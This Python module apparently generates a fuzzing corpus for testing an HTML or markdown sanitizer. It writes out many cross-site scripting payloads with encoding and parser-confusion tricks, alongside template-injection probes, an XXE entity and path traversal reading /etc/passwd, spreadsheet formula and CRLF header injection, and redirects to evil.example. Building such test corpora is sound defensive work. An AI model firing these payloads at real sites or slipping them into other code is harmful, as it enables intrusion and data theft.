"""Texts that try to run, made by category; where DATELINE_PAYLOADS names a file, each of its lines as well: a public list."""

from __future__ import annotations

import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

# The tricks of a scripter, each in the least words; `ran` is what the browser would call.
SHORT = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    '"><script>ran()</script>',
    "'><img src=x onerror=ran()>",
    '" onfocus=ran() autofocus x="',
    "</title><script>ran()</script>",
    "</script><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "javascript:ran()",
    "JaVaScRiPt&colon;ran()",
    "[x](javascript:ran())",
    '![x](x" onerror="ran())',
    "<a href='java\tscript:ran()'>x</a>",
    "<details open ontoggle=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "{{ 7 * 7 }}${ran()}#{ran()}<%= ran() %>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    "\u2028ran()\u2029",
    "<style>@import 'https://evil.example/x'</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><button autofocus>x",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
)
# Events that fire by themselves or by a look, and elements that load, play, open or take focus by themselves (HTML, SVG, MathML).
_EVENTS = (
    *(
        "load",
        "error",
        "toggle",
        "focus",
        "focusin",
        "pageshow",
        "scroll",
        "resize",
        "start",
        "finish",
        "bounce",
        "begin",
        "end",
    ),
    *(
        "animationstart",
        "animationend",
        "transitionend",
        "loadstart",
        "loadeddata",
        "canplay",
        "play",
        "suspend",
        "beforetoggle",
    ),
    *(
        "mouseover",
        "pointerover",
        "click",
        "contentvisibilityautostatechange",
        "hashchange",
        "message",
        "unhandledrejection",
    ),
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x",
    "body",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "details open",
    "video autoplay src=x",
    "audio autoplay src=x",
    "video><source",
    "object data=x",
    "embed src=x",
    "iframe src=x",
    "link rel=stylesheet href=x",
    "style",
    "marquee",
    "math><mi tabindex=0 autofocus",
    "x-own tabindex=0 autofocus",
    "div popover",
    "button autofocus",
)
_SCHEMES = (
    "javascript:ran()",
    "JAVASCRIPT:ran()",
    " javascript:ran()",
    "\x01javascript:ran()",
    "java\nscript:ran()",
    "java\tscript:ran()",
    "java\x00script:ran()",
    "javascript&#58;ran()",
    "javascript&colon;ran()",
    "&#106;avascript:ran()",
    "&#x6A;avascript:ran()",
    "&#0000106avascript:ran()",
    "%6Aavascript:ran()",
    "javascript://x/%0Aran()",
    "javascript://x/\u2028ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>",
    "vbscript:ran()",
    "blob:null/ran",
    "filesystem:ran",
    "view-source:javascript:ran()",
    "//evil.example/ran",
    "\\\\evil.example\\ran",
    "/\\evil.example",
    "https:evil.example",
    'https://a.example/" onmouseover=ran() x="',
    "https://a.example/' autofocus onfocus=ran() x='",
    "https://user:ran()@a.example/",
    "https://[ran()]/",
)
_LINKS = (
    "{}",
    "<a href='{}'>x</a>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][y]\n\n[y]: {}",
    "<iframe src='{}'>",
    "<object data='{}'>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<svg><use href='{}'/></svg>",
    "<math><a href='{}'>x</a></math>",
    "<form action='{}'><button>x",
    "<button formaction='{}'>x",
    "<meta http-equiv=refresh content='0;url={}'>",
)
_OUT = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    '\\"',
    "\\u0022",
    "&quot;>",
    "&#34;>",
    "&lt;/script&gt;",
    "\u2028",
    "\0",
    "\ufeff",
)
_IN = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    " autofocus onfocus=ran() ",
    ";ran();//",
    "<svg/onload=ran()>",
    "<!--<script>",
)
_ODD = (
    "<ScRiPt>ran()</sCrIpT>",
    "<script/src=data:,ran()>",
    "<script\x20type='module'>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran()//<</script>",
    "<script\x00>ran()</script>",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u202e<script>ran()</script>",
    "<svg><style><!--</style><img src=x onerror=ran()>-->",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=ran()>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject>",
    "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
    "<noembed><img title='</noembed><img src=x onerror=ran()>'>",
    "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
    "<select><template><img src=x onerror=ran()></template></select>",
    "<table><td background='javascript:ran()'>",
    "<p style='background:url(javascript:ran())'>x",
    "<p style='animation:x' onanimationstart=ran()><style>@keyframes x{}</style>",
    "<link rel=import href=data:text/html,ran()>",
    "<img srcset='x 1x, javascript:ran() 2x' onerror=ran()>",
    "<a id=WORDS name=document href=x>x</a><form name=currentScript>",
    "__proto__",
    "constructor",
    "toString",
    "{{constructor.constructor('ran()')()}}",
    "{% raw %}{{ ''.__class__.__mro__ }}{% endraw %}",
    "{0.__class__}{kind}{names}%s%(x)s",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<![CDATA[<script>ran()</script>]]>",
    "<!--[if gte IE 4]><script>ran()</script><![endif]-->",
    "```html\n<script>ran()</script>\n```",
    "    <script>ran()</script>",
    "> <script>ran()</script>",
    "| x |\n|---|\n| <img src=x onerror=ran()> |",
    "# x {: onclick=ran() }",
    '*[x]: " onmouseover=ran()',
    "[^1]: <script>ran()</script>",
    "<https://a.example/<script>ran()</script>>",
    "<a href=x onclick\n=\nran()>x</a>",
    "<a\x0chref='javascript:ran()'>x</a>",
    "<a/href='javascript:ran()'/>x</a>",
    "=cmd|'/c ran'!A1",
    "x\r\nContent-Type: text/html\r\n\r\n<script>ran()</script>",
    "../../../../etc/passwd",
    "..\\..\\ran",
    "CON",
    "." * 300,
    "<" * 300,
    "\ud7ff\ue000\ufffd\U0010ffff",
)


def every() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys((*SHORT, *_ODD, *_made(), *_public())))


def _made() -> Iterator[str]:
    """Each element with two of the events and each event with an element, each scheme in each sort of link, each way out with each way in."""
    for number, element in enumerate(_ELEMENTS):
        for event in (_EVENTS[number % len(_EVENTS)], _EVENTS[(7 * number + 3) % len(_EVENTS)]):
            yield f"<{element} on{event}=ran()>x"
    for number, event in enumerate(_EVENTS):
        yield f"<{_ELEMENTS[number % len(_ELEMENTS)]} on{event}='ran()' style='display:block'>"
    for number, (scheme, link) in enumerate(product(_SCHEMES, _LINKS)):
        if number % 3 == 0:  # each scheme in a third of the links, each link with a third of the schemes
            yield link.format(scheme)
    for way_out, way_in in product(_OUT, _IN):
        yield f"{way_out}{way_in}"


def _public() -> Iterator[str]:
    named = os.environ.get("DATELINE_PAYLOADS")
    if named:
        yield from filter(None, Path(named).read_text("utf-8", errors="replace").splitlines())
